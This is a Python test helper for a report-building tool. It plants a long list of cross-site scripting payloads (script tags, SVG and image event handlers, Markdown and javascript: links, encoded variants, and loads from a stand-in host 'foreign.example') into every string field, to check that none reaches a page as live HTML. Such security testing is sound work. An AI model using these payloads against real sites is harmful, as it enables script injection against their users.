"""Payloads that would run in a browser if any field of a report reached a page as HTML, planted in every string field of a report."""

from __future__ import annotations

import copy
import json
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from altreport.editions import Edition
from altreport.fixed_words import english, placeholders
from altreport.problems import Severity
from altreport.project.numbered_report import open_report
from small_report import write_report

RUN = "alert(1)"
PAYLOADS: tuple[str, ...] = (
    f"<script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</h1><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</style></textarea></noscript></template><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\t/x>{RUN}</script",
    "<script src=//foreign.example/x.js></script>",
    f'<script type="module">{RUN}</script>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></use></svg>',
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:x onerror=alert(1)//",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '" autofocus tabindex=0 onfocus=alert(1) x="',
    "' autofocus tabindex=0 onfocus=alert(1) x='",
    '" style="position:fixed;inset:0" onmouseover="alert(1)',
    '<p style="background:url(http://foreign.example/x.png)">x</p>',
    "<style>@import 'http://foreign.example/x.css';</style>",
    '<link rel=stylesheet href="http://foreign.example/x.css">',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe src=javascript:parent.alert(1)></iframe>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="http://foreign.example/">',
    '<form action="javascript:alert(1)"><button autofocus>x</button></form>',
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "＜script＞alert(1)＜/script＞",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
    '","text":"<img src=x onerror=alert(1)>","x":"',
    "{{ config.__class__ }} {% set x = 1 %} {# x #} ${alert(1)} <%= 1 %>",
    '{: onclick="alert(1)" style="color:red" }',
    '[x]{onfocus="alert(1)" autofocus tabindex=0 style="color:red"}',
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<  JaVaScRiPt:alert(1)>)",
    "[x]( data:text/html,<script>alert(1)</script>)",
    "[x][y] <javascript:alert(1)>",
    "![x](x){onerror=alert(1)}",
    "``` {onclick=alert(1)}",
    "`<img src=x onerror=alert(1)>`{=html}",
    '<div markdown="1"><img src=x onerror=alert(1)></div>',
    "$\\href{javascript:alert(1)}{x}$ \\href{javascript:alert(1)}{x}",
    "<a href=\"vbscript:alert(1)\">x</a><a href='//foreign.example'>x</a>",
    "javascript:alert(1)//https://example.org",
    "data:text/html,<script>alert(1)</script>",
    'https://example.org/"onmouseover="alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    'mailto:a@example.org"><svg/onload=alert(1)>',
    'a@example.org"onfocus="alert(1)"autofocus',
    "//foreign.example/x",
    "\\\\foreign.example\\x",
)
"""Each calls `alert`, or asks foreign.example; those that begin like an address are given alone, the others behind a word to find them by."""
_ADDRESS = re.compile(r"(?:javascript|data|https|mailto):|//|\\\\|a@")
_AT_ONCE = 6
"""Payloads in one field: a text that has HTML in it takes several, as long as none of them is refused."""

COVER: dict[str, Any] = {
    "title": "Title", "short_title": "Short", "state": "NZL", "treaty": "OPSC", "stage": "stage", "session": "session", "deadline": "2203-01-15", "submitted": "2202-12-15",
    "date": "May 2022", "as_of": "May 2022", "submitters": ["An organisation"], "contact": "office@example.org", "publication": "public", "language": "en-NZ",
    "profile": "unspecified", "style": "altreport-note", "notice": "Notice.", "pages": ["about"], "sections": ["law"], "recommendations": ["all"],
    "recommendations_title": "What we ask", "annexes": ["coverage"], "guidelines": ["Guideline"], "site": "https://example.org/report/",
    "comments": "review@example.org", "coverage": ["OPSC 3"], "severities": {"bare-url": "info"}, "allow": [{"code": "late-reply", "reason": "A reason."}],
}  # fmt: skip
ALLOW = [{"code": "paragraph-too-long", "reason": "A reason."}]
FULL: dict[str, Any] = {
    "report/report.yml": COVER,
    "report/acronyms.yml": {"ABC": "A Better Court", "OPSC": "Optional Protocol"},
    "report/sections/law.yml": {
        "id": "law", "title": "The law", "guidelines": ["Guideline"], "visibility": "public", "allow": ALLOW,
        "paragraphs": [
            {"id": "first", "text": "Text of OPSC, ABC.[^note-a] [@act, s 3] [@oia-1, question 1]", "articles": ["OPSC 3"], "sdg": ["8.7"], "observations": ["para 4"],
             "loipr": ["para 5"], "shows": ["table-a", "chart-a", "photo-a"], "gap": "false", "visibility": "public", "allow": ALLOW},
            {"id": "second", "text": "Other words, see [](#first) and [](#table-a)."},
        ],
    },
    "recommendations/all.yml": [
        {"id": "rec-one", "text": "Amend the Act.", "to": ["Ministry"], "by": "2027", "articles": ["OPSC 3"], "sdg": ["8.7"], "observations": ["para 4"],
         "rests_on": ["first"], "visibility": "public", "allow": ALLOW},
    ],
    "citations/endnotes.yml": {
        "note-a": {"text": "See [@tip, p. 4].", "sources": ["art"], "visibility": "public", "allow": ALLOW},
    },
    "citations/information-requests/oia-1.yml": {
        "id": "oia-1", "agency": "Ministry", "reference": "R 1", "law": "nz-oia", "subject": "Subject", "asked": "2022-09-18",
        "extended": {"on": "2022-10-17", "to": "2022-10-25", "working_days": "5", "reason": "Reason"}, "answered": "2022-10-25", "published": "Published",
        "url": "https://example.org/reply", "questions": [{"question": "What?", "outcome": "withheld", "section": "9(2)(a)", "answer": "Answer"}],
        "complaint": "Complaint", "visibility": "public", "allow": ALLOW,
    },
    "report/figures/table-a.yml": {
        "id": "table-a", "kind": "table", "title": "Table", "columns": ["One", "Two"], "rows": [["Cell", "Other"]], "source": "From us.", "visibility": "public",
    },
    "report/figures/chart-a.yml": {
        "id": "chart-a", "kind": "chart", "title": "Chart", "columns": ["Year", "Count"], "rows": [["First", "3"], ["Second", "4"]], "unit": "cases",
        "alt": "Bars", "source": "From us.", "visibility": "public",
    },
    "report/figures/photo-a.yml": {
        "id": "photo-a", "kind": "picture", "title": "Photo", "file": "photo.png", "alt": "A house", "source": "From us.", "visibility": "public",
    },
    "citations/sources.bib": {
        "act": {"type": "legislation", "title": "Crimes Act 1961", "date": "1961", "location": "New Zealand", "note": "Note", "shorttitle": "The Act"},
        "tip": {"type": "report", "author": "{Department}", "title": "Report", "subtitle": "Sub", "institution": "House", "date": "2022", "url": "https://example.org/tip",
                "doi": "10.1000/x", "number": "7", "series": "Series", "language": "English", "note": "Note", "keywords": "key", "visibility": "public"},
        "art": {"type": "article", "author": "Name, A.", "title": "Article", "journaltitle": "Journal", "volume": "1", "number": "2", "pages": "3--4", "date": "2020"},
    },
    "report/about.md": {"title": "About this", "text": "Words of the page.[@art, p. 3]"},
}  # fmt: skip
"""A report that has every field of every kind of record; the leaves are text."""

PIXEL = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b550000000a49444154789c63f80f0001010100b138f6140000000049454e44ae426082")
"""A picture of one point (PNG)."""
Path_ = tuple[str | int, ...]


def _groups(payloads: list[str]) -> list[str]:
    return [" ¦ ".join(payloads[start : start + _AT_ONCE]) for start in range(0, len(payloads), _AT_ONCE)]


def groups_for(leaf: Leaf) -> list[str]:
    """All payloads, as a field takes them: several at once where it is plain text; by themselves where they are Markdown, BibTeX or an address."""
    apart = [payload for payload in PAYLOADS if not payload.startswith("<")]
    if leaf.is_read or leaf.path[-1] in ("site", "comments", "url", "doi"):
        return [*_groups([payload for payload in PAYLOADS if payload.startswith("<")]), *apart]
    return _groups(list(PAYLOADS))


@dataclass(frozen=True)
class Leaf:
    """One string field: its file, and what leads to it."""

    file: str
    path: Path_

    @property
    def is_read(self) -> bool:
        """Whether its text is Markdown or BibTeX."""
        return self.path[-1] in ("text", "notice", "source") or self.file.endswith((".bib", ".md"))

    def __str__(self) -> str:
        return f"{self.file}: {'.'.join(map(str, self.path))}"


@dataclass
class Planted:
    """A report with payloads: which leaf has which, and which leaves refuse theirs (an error of `check`)."""

    given: dict[Leaf, str]
    refused: dict[Leaf, str]


def marker(leaf_number: int) -> str:
    """A word that is nowhere else, by which a leaf is found on a page."""
    return f"zqpay{leaf_number:04d}"


def leaves() -> list[Leaf]:
    """Every string field, those of the fixed words too."""
    return [Leaf(file, path) for file, data in _everything().items() for path in _paths(data)]


def plant(folder: Path, turn: int) -> Planted:
    """Write a report in which leaf number i has group i + `turn` of its payloads, but for those that `check` refuses there.

    A leaf whose line has an error gets its plain words back, until `check` finds no error.
    """
    planted = Planted({}, {})
    everything = leaves()
    for number, leaf in enumerate(everything):
        groups = groups_for(leaf)
        payload = groups[(number + turn) % len(groups)]
        planted.given[leaf] = payload if _ADDRESS.match(payload) else f"{marker(number)} {payload}"
    doubtful: set[Leaf] = set()
    while errors := _errors(folder, lines := _write(folder, planted.given)):
        at = {leaf for leaf, line in lines.items() if (leaf.file, line) in errors}
        wrong = {leaf for leaf in planted.given if leaf in at}
        if not wrong:  # errors of a list as a whole; of an entry that none can read; of what is not known
            below = {leaf for leaf in planted.given for head in at if leaf.file == head.file and leaf.path[: len(head.path) - 1] == head.path[:-1]}
            types = {leaf for leaf in planted.given if leaf.path[-1] == "type"}
            wrong = below or types or set(planted.given)
            doubtful |= wrong
        for leaf in wrong:
            planted.refused[leaf] = planted.given.pop(leaf)
    _give_back(folder, planted, sorted(doubtful, key=str))
    _write(folder, planted.given)
    return planted


def _give_back(folder: Path, planted: Planted, doubtful: list[Leaf]) -> None:
    """Plant again those of the doubtful that are at no fault, found by halves."""
    if not doubtful:
        return
    tried = {**planted.given, **{leaf: planted.refused[leaf] for leaf in doubtful}}
    if not _errors(folder, _write(folder, tried)):
        planted.given = tried
        for leaf in doubtful:
            del planted.refused[leaf]
    elif len(doubtful) > 1:
        half = len(doubtful) // 2
        _give_back(folder, planted, doubtful[:half])
        _give_back(folder, planted, doubtful[half:])


def _errors(folder: Path, _: object) -> set[tuple[str, int]]:
    """The file and line of each error that `check` finds in what was written."""
    found = open_report(folder, Edition.PUBLIC).problems
    return {(problem.place.path, problem.place.line) for problem in found if problem.severity is Severity.ERROR}


def _everything() -> dict[str, Any]:
    return {**FULL, "templates/wording/en.yml": dict(sorted(vars(english()).items()))}


def _paths(data: Any, before: Path_ = ()) -> Iterator[Path_]:
    if isinstance(data, dict):
        for name, value in data.items():
            yield from _paths(value, (*before, name))
    elif isinstance(data, list):
        for position, value in enumerate(data):
            yield from _paths(value, (*before, position))
    else:
        yield before


def _write(folder: Path, given: Mapping[Leaf, str]) -> dict[Leaf, int]:
    """Write the report; the line of each leaf."""
    data = copy.deepcopy(_everything())
    for leaf, value in given.items():
        holder = data[leaf.file]
        for step in leaf.path[:-1]:
            holder = holder[step]
        old = holder[leaf.path[-1]]
        names = placeholders(old) if leaf.file.startswith("templates/wording") else frozenset()
        words = value.replace("{", "{{").replace("}", "}}") if leaf.file.startswith("templates/wording") else value
        holder[leaf.path[-1]] = " ".join([words, *(f"{{{name}}}" for name in sorted(names))])
    lines: dict[Leaf, int] = {}
    files: dict[str, str | bytes | None] = {"report/figures/photo.png": PIXEL}
    for file, content in data.items():
        written = _bib(content) if file.endswith(".bib") else _page(content) if file.endswith(".md") else list(_yaml(content))
        files[file] = "".join(f"{text}\n" for _, text in written)
        number = 1
        for path, text in written:
            lines[Leaf(file, path)] = number
            number += text.count("\n") + 1
    write_report(folder, files)
    return lines


LINE_SEPARATOR, ESCAPED = "\u2028", "\\u2028"
"""A reader of YAML would count the first as the end of a line."""


def _yaml(data: Any, before: Path_ = ()) -> Iterator[tuple[Path_, str]]:
    """A line for each leaf, with what leads to it: YAML takes a value in quotes as JSON writes it."""
    indent = "  " * len(before)
    items = list(data.items()) if isinstance(data, dict) else list(enumerate(data))
    for name, value in items:
        head = f"{indent}{name}:" if isinstance(data, dict) else f"{indent}-"
        if isinstance(value, dict | list):
            yield (*before, name, ""), head
            yield from _yaml(value, (*before, name))
        else:
            yield (*before, name), f"{head} {json.dumps(value, ensure_ascii=False).replace(LINE_SEPARATOR, ESCAPED)}"


def _bib(data: dict[str, dict[str, str]]) -> list[tuple[Path_, str]]:
    written: list[tuple[Path_, str]] = []
    for key, fields in data.items():
        written.append(((key, "type"), f"@{fields['type']}{{{key},"))
        written += [((key, name), f"  {name} = {{{value}}},") for name, value in fields.items() if name != "type"]
        written.append(((key, ""), "}"))
    return written


def _page(data: dict[str, str]) -> list[tuple[Path_, str]]:
    return [(("title",), f"# {data['title']}"), ((), ""), (("text",), data["text"])]
